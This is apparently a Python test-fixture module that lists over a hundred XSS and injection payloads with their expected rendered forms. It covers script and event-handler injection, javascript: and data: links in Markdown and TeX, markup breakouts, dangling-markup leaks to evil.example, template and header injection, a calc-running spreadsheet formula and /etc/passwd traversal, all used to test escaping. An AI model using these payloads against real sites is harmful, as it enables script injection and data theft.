"""Texts that would run, load or leave the page if one place forgot to escape them, each by another way.

A payload calls `xss()`, or asks for something of `evil.example`. `rich` is what is read of it where Markdown and maths
are rendered, when that is not the text itself.
"""

from dataclasses import dataclass

LONGEST = 100  # characters: what the shortest of the fields takes


@dataclass(frozen=True)
class Payload:
    """`way` says what it tries."""

    way: str
    text: str
    rich: str | None = None

    @property
    def shown(self) -> str:
        """What is read of it as rich text."""
        return self.text if self.rich is None else self.rich


PAYLOADS = [
    # elements that run something
    Payload("a script", "<script>xss()</script>"),
    Payload("a script after an end of another", "</script><script>xss()</script>"),
    Payload("a script in capitals with a tab", "<SCRIPT\t>xss()</SCRIPT\t>"),
    Payload("a script of another host", "<script src=//evil.example/x.js></script>"),
    Payload("a script in halves", "<scr<script>ipt>xss()</scr</script>ipt>"),
    Payload("a module", "<script type=module>import '//evil.example/m.js'; xss()</script>"),
    Payload("a script without an end", "<script>xss()//"),
    Payload("a slash for a space", "<svg/onload=xss()>"),
    Payload("a picture that fails", "<img src=x onerror=xss()>"),
    Payload("a picture with odd quotes", "<img src=`x`onerror=xss()>", "<img src=xonerror=xss()>"),
    Payload("a picture with a newline", "<img\nsrc=x\nonerror\n=\nxss()>", "<img src=x onerror xss()>"),
    Payload("a body", "<body onload=xss() onpageshow=xss()>"),
    Payload("focus", "<input autofocus onfocus=xss()>"),
    Payload("focus of anything", "<b tabindex=1 autofocus onfocusin=xss()>b</b>"),
    Payload("details", "<details open ontoggle=xss()><summary>s</summary></details>"),
    Payload("a popover", "<button popovertarget=p>b</button><p id=p popover onbeforetoggle=xss()>p"),
    Payload("video", "<video src=x onerror=xss()><source onerror=xss()></video>"),
    Payload("an animation", "<style>@keyframes a{}</style><b style='animation:a' onanimationstart=xss()>b</b>"),
    Payload("a marquee", "<marquee onstart=xss() width=1>m</marquee>"),
    Payload("something made up", "<q-q onpointerenter=xss() style=position:fixed;inset:0>q</q-q>"),
    Payload("an object", "<object data='data:text/html,<script>parent.xss()</script>'></object>"),
    Payload("an embed", "<embed src='javascript:xss()'>"),
    Payload("a frame", "<iframe src='javascript:parent.xss()'></iframe>"),
    Payload("a frame with a document", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>"),
    Payload("a fenced frame of another host", "<frameset><frame src=//evil.example></frameset>"),
    Payload("a portal to the past", "<applet code=x.class archive=//evil.example/x></applet>"),
    # elements that change the page or leave it
    Payload("a refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    Payload("a policy", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    Payload("a base", "<base href='//evil.example/'>"),
    Payload("a stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    Payload("a prefetch", "<link rel=prefetch href=//evil.example/x>"),
    Payload("a style", "<style>*{background:url(//evil.example/x)}</style>"),
    Payload("a style with an import", "<style>@import'//evil.example/x.css';</style>"),
    Payload("an attribute of style", "<b style='background:url(//evil.example/y)'>b</b>"),
    Payload("a form", "<form action=//evil.example><button>Sign in</button></form>"),
    Payload("a button's own address", "</form><button formaction=javascript:xss()>b</button>"),
    Payload("an input that joins a form", "<input form=judge name=answer value=7>"),
    Payload("dangling markup", "<img src='//evil.example/?"),
    Payload("a dangling text area", "<textarea><title>"),
    Payload("a dangling comment", "<!-- "),
    Payload("a name that hides another", "<a id=desk><a id=desk name=dataset>d</a></a>"),
    # ways out of where a text stands
    Payload("out of double quotes", '"><img src=x onerror=xss()>'),
    Payload("out of single quotes", "'><img src=x onerror=xss()>"),
    Payload("an attribute more", '" autofocus onfocus="xss()" x="'),
    Payload("an attribute more, single", "' onmouseover='xss()' style='position:fixed;inset:0' x='"),
    Payload("out of a title", "</title><script>xss()</script>"),
    Payload("out of a text area", "</textarea><script>xss()</script>"),
    Payload("out of an option", "</option></select><script>xss()</script>"),
    Payload("out of a comment", "--><script>xss()</script><!--"),
    Payload("out of character data", "]]><script>xss()</script>"),
    Payload("out of a style", "</style><script>xss()</script>"),
    Payload("out of noscript", "</noscript><script>xss()</script>"),
    Payload("out of a string of JSON", '"});xss();({"a":"'),
    Payload("out of a script of JSON", '{"a":"</script><script>xss()</script>"}'),
    Payload("a comment in a script of JSON", "<!--<script>"),
    Payload("out of a template string", "${xss()}`;xss();`", "${xss()};xss();"),
    Payload("line ends of JavaScript", "\u2028xss()\u2029//"),
    # markup that changes its meaning when it is read a second time
    Payload("foreign content", "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>"),
    Payload("a script of SVG", "<svg><script href='data:text/javascript,xss()'/></svg>"),
    Payload("a use of SVG", "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'/></svg>"),
    Payload("an animated link of SVG", "<svg><a><animate attributeName=href values=javascript:xss()><text>s"),
    Payload("mathematics", "<math><maction actiontype=statusline xlink:href=javascript:xss()>m</maction></math>"),
    Payload("an annotation", "<math><annotation-xml encoding='text/html'><img src=x onerror=xss()></math>"),
    Payload("mixed name spaces", "<math><mtext><table><mglyph><style><!--</style><img src onerror=xss()>"),
    Payload("a style in a mglyph", "<svg></p><style><a id='</style><img src=x onerror=xss()>'>"),
    Payload("a noscript with an attribute", "<noscript><p title='</noscript><img src=x onerror=xss()>'>"),
    Payload("a template", "<template shadowrootmode=open><script>xss()</script></template>"),
    Payload("a processing instruction", "<?xml-stylesheet href='javascript:xss()'?><![CDATA[<script>xss()</script>]]>"),
    # templates, encodings, characters
    Payload(
        "a template of Jinja",
        "{{7*7}}{% print(lipsum.__globals__) %}{# hidden #}",
        "{{7*7}}{% print(lipsum.globals) %}{# hidden #}",
    ),
    Payload("a format of Python", "%(name)s {0.__class__} {person} %s %n", "%(name)s {0.class} {person} %s %n"),
    Payload("entities", "&lt;script&gt;xss()&lt;/script&gt; &#60;b&#62;", "<script>xss()</script> <b>"),
    Payload("entities without an end", "&lt&#x3c;img src=x onerror&#61;xss()&gt", "&lt<img src=x onerror=xss()&gt"),
    Payload("percent signs", "%3Cscript%3Exss()%3C/script%3E"),
    Payload("escapes of JavaScript", "\\u003cscript\\u003exss()\\x3c/script\\x3e"),
    Payload("wide brackets", "\uff1cscript\uff1exss()\uff1c/script\uff1e"),
    Payload("letters that become others", "<\u017fcript>xss()</\u017fcript><\u0131mg src=x onerror=xss()>"),
    Payload("UTF-7", "+ADw-script+AD4-xss()+ADw-/script+AD4-"),
    Payload("another direction", "\u202e<script>xss()</script>\u202c\u2066x\u2069"),
    Payload("no width", "<scr\u200bipt>xss()</scr\ufeffipt>"),
    Payload("headers", "x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script>xss()</script>"),
    Payload("a formula", '=HYPERLINK("//evil.example","x")&cmd|\' /C calc\'!A0'),
    Payload("a path", "../../../../etc/passwd%00.jsonl"),
    # Markdown
    Payload("a link that runs", "[a](javascript:xss())"),
    Payload(
        "a link that runs, disguised",
        "[a](java\tscript&colon;xss()) [b](JaVaScRiPt&#58;xss())",
        "[a](java script:xss()) [b](JaVaScRiPt:xss())",
    ),
    Payload("a link of data", "[a](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)"),
    Payload("a link of VBScript", "[a](vbscript:xss())"),
    Payload("a link between brackets", "<javascript:xss()> <data:text/html,x>"),
    Payload("a link with a title", '[a](https://evil.example "\\" onmouseover=xss() x=\\"")', "a"),
    Payload("a picture that tells", "![see](https://evil.example/p.png)", "see"),
    Payload("a picture that runs", "![x](javascript:xss())"),
    Payload("a picture with a hole", '![" onerror="xss()](https://evil.example/x)', '" onerror="xss()'),
    Payload("a reference", "[a]\n\n[a]: javascript:xss()"),
    Payload("a link in a link", "[<img src=x onerror=xss()>](https://evil.example)", "<img src=x onerror=xss()>"),
    Payload("the language of code", '``` "><img/src=x/onerror=xss()>\ncode\n```', "code"),
    Payload(
        "code that ends", "```html\n</code></pre><script>xss()</script>\n```", "</code></pre><script>xss()</script>"
    ),
    Payload("a cell", "| a |\n|---|\n| <img src=x onerror=xss()> |", "a <img src=x onerror=xss()>"),
    Payload("an attribute list", "a{onclick=xss() .x #y} ::: {onload=xss()}"),
    # maths
    Payload("a link of TeX", "$\\href{javascript:xss()}{x}$ $\\url{javascript:xss()}$", "x \\urljavascript:xss()"),
    Payload(
        "a style of TeX", "$\\style{background:url(//evil.example)}{x}\\class{y}{z}\\cssId{desk}{w}$", "xz\\cssIddeskw"
    ),
    Payload("text of TeX", "$\\text{<img src=x onerror=xss()>}$", "<img src=x onerror=xss()>"),
    Payload("a character of TeX", "$\\unicode{x3c}img\\char`<$", "<img\\char`<"),
    Payload("markup for TeX", "$$</math><img src=x onerror=xss()>$$", "</math><imgsrc=xonerror=xss()>"),
    Payload(
        "a picture of TeX",
        "$\\includegraphics{//evil.example/x.png}\\input{/etc/passwd}$",
        "\\includegraphics//evil.example/x.png\\input/etc/passwd",
    ),
]
